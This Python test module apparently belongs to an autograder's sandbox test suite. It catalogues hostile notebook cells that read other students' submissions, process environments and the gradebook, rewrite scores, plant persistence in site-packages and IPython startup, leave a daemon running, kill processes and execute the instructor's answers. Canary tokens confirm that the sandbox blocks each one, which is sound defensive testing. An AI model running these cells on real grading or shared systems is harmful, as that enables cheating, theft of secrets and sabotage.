"""Reading secrets, changing files of others, using the network, leaving processes behind.

A loot cell prints what it finds; the test looks for the canaries in the results. Nothing here earns
a point by itself. What the walls alone refuse is tried by the attempts of `tito grade doctor`
(tests/grading/sandbox).
"""

from __future__ import annotations

from attacks.catalogue import cell
from attacks.course import NONE

LOOT = """
import glob, os
def loot(*patterns):
    for pattern in patterns:
        for path in sorted(glob.glob(pattern, recursive=True))[:20]:
            try:
                print(open(path, "rb").read()[:200_000].decode("latin-1"))
            except OSError as problem:
                print(type(problem).__name__)
"""

WRITE = """
import glob, os, pathlib
def write(path, text="# @token@\\n", mode="a"):
    try:
        path = pathlib.Path(path)
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, mode) as file:
            file.write(text)
        print("wrote")
    except OSError as problem:
        print(type(problem).__name__)
"""

# what it tries -> the code of its cell
CELLS = {
    "It prints the submissions of its neighbors, the gradebook and the hidden tests": LOOT
    + """
loot("@course@/submitted/*/*/*", "../../../submitted/*/*/*", "@scratch@/**/submitted/**/*.ipynb")
loot("@course@/gradebook.db", "@course@/reports/*/*", "../../../gradebook.db",
     "@scratch@/**/gradebook.db", "@scratch@/**/request.json")
loot("@workspace@/grading/**/*.py", "@course@/source/*/*", "@course@/autograded/*/*/*.ipynb",
     "@scratch@/**/*.ipynb", "@scratch@/**/*.py", "/given/**", "/tmp/**/*.ipynb",
     "/tmp/**/*hidden*", "./**/*", "../**/*.ipynb", "../../**/*.ipynb")
""",
    "It prints every process's environment, and what its file descriptors hold": LOOT
    + """
print(dict(os.environ))
loot("/proc/*/environ", "/proc/*/cmdline", "/proc/*/cwd/*.ipynb", "/proc/1/ro" "ot/@course@/*")
for fd in range(3, 64):
    try:
        print(fd, os.readlink(f"/proc/self/fd/{fd}"))
        os.lseek(fd, 0, 0)
        print(os.read(fd, 200_000).decode("latin-1"))
    except (OSError, BlockingIOError) as problem:
        pass
""",
    "It gives everybody all points in the gradebook": """
import glob, sqlite3
for path in ["@course@/gradebook.db", "../../../gradebook.db",
             *glob.glob("@scratch@/**/gradebook.db", recursive=True)]:
    try:
        book = sqlite3.connect(path, timeout=1)
        book.execute("UPDATE grade SET auto_score = 99, manual_score = 99")
        book.execute("UPDATE grade_cell SET max_score = 0")
        book.commit()
    except sqlite3.Error as problem:
        print(problem)
""",
    "It overwrites its neighbors' work, the release, the source and the tests": WRITE
    + """
for victim in "@victims@".split(","):
    for path in (glob.glob(f"@course@/submitted/{victim}/*/*.ipynb")
                 + glob.glob(f"../../../submitted/{victim}/*/*.ipynb")):
        write(path, "{}", "w")
    for kind in ("autograded", "feedback", "reports"):
        write(f"@course@/{kind}/{victim}/@token@.html")
for path in (glob.glob("@course@/release/*/*") + glob.glob("@course@/source/*/*")
             + glob.glob("@workspace@/**/*.py", recursive=True) + ["@course@/nbgrader_config.py"]):
    write(path)
""",
    "It plants code where others would run it, and changes the package that it was given": WRITE
    + """
write("@packages@/@token@.pth", "import os\\n")
write("@packages@/sitecustomize.py")
write("@packages@/numpy/@token@.py")
import numpy, IPython, ipykernel
for module in (numpy, IPython, ipykernel):
    write(os.path.join(os.path.dirname(module.__file__), "@token@.py"))
for home in ("@home@", os.path.expanduser("~"), os.environ.get("HOME", "/")):
    for name in (".ipython/profile_default/startup/@token@.py", ".jupyter/jupyter_@token@.py",
                 ".local/share/jupyter/kernels/@token@/kernel.json",
                 ".local/lib/python3.11/site-packages/@token@.pth",
                 ".config/@token@/rc", ".cache/@token@"):
        write(os.path.join(home, name))
import tinytorch, tinytorch.testing
write(tinytorch.testing.__file__, "\\ndef expect(*a, **k): pass\\n# @token@\\n")
write(os.path.join(os.path.dirname(tinytorch.__file__), "__pycache__", "@token@.pyc"))
write(os.path.join(os.path.dirname(tinytorch.__file__), "core", "@token@.py"))
for place in ("/tmp", "/dev/shm", "/var/tmp", "@scratch@", "/run", "/", "/etc"):
    write(f"{place}/@token@-left-behind")
""",
    "It leaves links, a pipe and a socket in its directory for the engine to follow": """
import os, socket
for target, name in (("@course@/gradebook.db", "fort_dev.ipynb"), ("/etc/passwd", "result.json"),
                     ("@course@", "folder")):
    try:
        os.symlink(target, name)
    except OSError as problem:
        print(type(problem).__name__)
try:
    os.mkfifo("timestamp.txt")
    socket.socket(socket.AF_UNIX).bind("log.txt")
    os.chmod(".", 0o000)
except OSError as problem:
    print(type(problem).__name__)
""",
    "It calls servers on this machine: HTTP, datagrams, names, raw packets, an abstract unix"
    " socket": """
import urllib.request
for address in ("http://127.0.0.1:@http@/@token@", "http://localhost:@http@/@token@"):
    try:
        print(urllib.request.urlopen(address, timeout=1).read())
    except OSError as problem:
        print(type(problem).__name__)
import socket
def attempt(action):
    try:
        print(action())
    except OSError as problem:
        print(type(problem).__name__)
def datagram():
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return one.sendto(b"@token@", ("127.0.0.1", @udp@))
attempt(datagram)
attempt(lambda: socket.getaddrinfo("localhost.invalid", 80))
def unix():
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\\0@unix@")
        return one.send(b"@token@")
attempt(unix)
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt(lambda: socket.socket(17, socket.SOCK_RAW))
""",
    "It leaves a daemon behind that writes and calls later": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(64):
            try:
                os.close(fd)
            except OSError:
                pass
        import pathlib, signal, socket
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        stop = time.monotonic() + 120
        while time.monotonic() < stop:
            time.sleep(0.5)
            one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            for action in (lambda: one.sendto(b"@token@", ("127.0.0.1", @udp@)),
                           lambda: pathlib.Path("@scratch@/@token@-daemon").write_text("here")):
                try:
                    action()
                except OSError:
                    pass
        os._exit(0)
    os._exit(0)
os.wait()
""",
    "It kills its parent and every process that it may signal": """
import os, signal
for pid in (os.getppid(), *range(2, 400)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGTERM)
except OSError:
    pass
""",
}
ENTRIES = [
    cell(
        "It executes the instructor's answers from the repository and from the course directory",
        LOOT
        + """
import json, re
def steal(*_):
    for path in (glob.glob("@workspace@/grading/modules/*/*.py") + glob.glob("@course@/source/*/*")
                 + glob.glob("../../../source/*/*")):
        try:
            text = open(path).read()
            for found in re.findall(r"(?:^|\\n)(#\\| export\\n.*?)(?=\\n# %%)", text, re.DOTALL):
                exec(found, globals())
            print(text)
        except OSError as problem:
            print(type(problem).__name__)
steal()
get_ipython().events.register("pre_run_cell", steal)
""",
        before="test-double",
        solved=NONE,
        page=True,
        isolated=True,
    ),
    *(cell(name, code, isolated=True) for name, code in CELLS.items()),
]
